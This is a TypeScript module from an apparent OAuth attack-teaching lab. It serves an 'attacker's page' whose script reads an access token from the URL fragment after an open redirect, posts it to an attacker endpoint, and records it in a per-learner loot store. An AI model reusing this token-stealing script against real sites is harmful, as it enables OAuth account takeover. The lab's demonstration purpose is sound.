import 'server-only';
import { z } from 'zod';
import { runOf } from '../../../../lib/trace/run';
import { learnerAndForm } from '../../../../lib/attacks/learner-and-form';
import { IMPLICIT_APP_CLIENT_ID } from './implicit-app';
import { lootStore } from '../../../../lib/attacks/loot';

/**
 * The attacker's page of the implicit token leak (lab only): where the client's open redirector sends
 * alice's browser. Its script reads the token from the address's fragment, which the browser carried
 * across the redirect, posts it to the attacker's server, and hands the tab back to the lab (/callback)
 * saying what it caught. Fragments never reach a server by themselves: a script on the page must read them.
 * The script's request says it comes from alice's browser (x-playground-from), where the token leaked.
 */
export const TOKEN_CATCHER_PAGE = '/attacks/attacker/token-catcher';
export const TOKEN_CATCHER_LOOT = '/api/attacker/token-catcher';

// Served as a file of this origin (script-src 'self'), not inline: the page's policy allows no inline script.
const SCRIPT =
  "(function(){var f=new URLSearchParams(location.hash.slice(1)),t=f.get('access_token')," +
  "s=document.getElementById('status');" +
  "function back(c){location.replace('/callback?'+new URLSearchParams({attacker_caught:c}))}" +
  "if(!t){s.textContent='Nothing in this page\\u2019s address: no fragment, no token.';back('nothing');return}" +
  "s.textContent='Found an access token in the fragment; sending it to the attacker\\u2019s server.';" +
  `fetch(${JSON.stringify(TOKEN_CATCHER_LOOT)},{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded','x-playground-from':'resource-owner'},` +
  "body:new URLSearchParams({access_token:t})}).then(function(r){back(r.ok?'access_token':'nothing')}," +
  "function(){back('nothing')})})();";

const PAGE = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="referrer" content="no-referrer">
<title>The attacker’s page (attack lab)</title></head>
<body><main><h1>The attacker’s page (attack lab)</h1><p id="status">Reading this page’s address…</p></main>
<script src="${TOKEN_CATCHER_PAGE}/script"></script></body></html>`;

/** GET /attacks/attacker/token-catcher: the page, which runs the attacker's script from this origin. */
export function tokenCatcherPage(): Response {
  return new Response(PAGE, {
    headers: {
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-store',
      'referrer-policy': 'no-referrer',
    },
  });
}

/** GET /attacks/attacker/token-catcher/script: what the page runs. */
export function tokenCatcherScript(): Response {
  return new Response(SCRIPT, {
    headers: { 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'no-store' },
  });
}

export const caughtTokenSchema = z.object({
  access_token: z.string().min(1, 'access_token: the caught token is missing').max(4096),
});

/** POST /api/attacker/token-catcher: the page's script delivers the token it read from the fragment. */
export async function receiveCaughtToken(request: Request): Promise<Response> {
  const read = await learnerAndForm(request, caughtTokenSchema);
  if (read instanceof Response) return read;
  const { learnerId, form } = read;
  const item = {
    kind: 'access_token' as const,
    value: form.access_token,
    client_id: IMPLICIT_APP_CLIENT_ID,
    how: 'read from the URL fragment by the attacker’s page, reached through the app’s open redirect',
    run: runOf(request.headers),
    at: new Date().toISOString(),
  };
  lootStore().add(learnerId, item);
  return Response.json(
    { received: { kind: item.kind } },
    { status: 201, headers: { 'cache-control': 'no-store' } },
  );
}
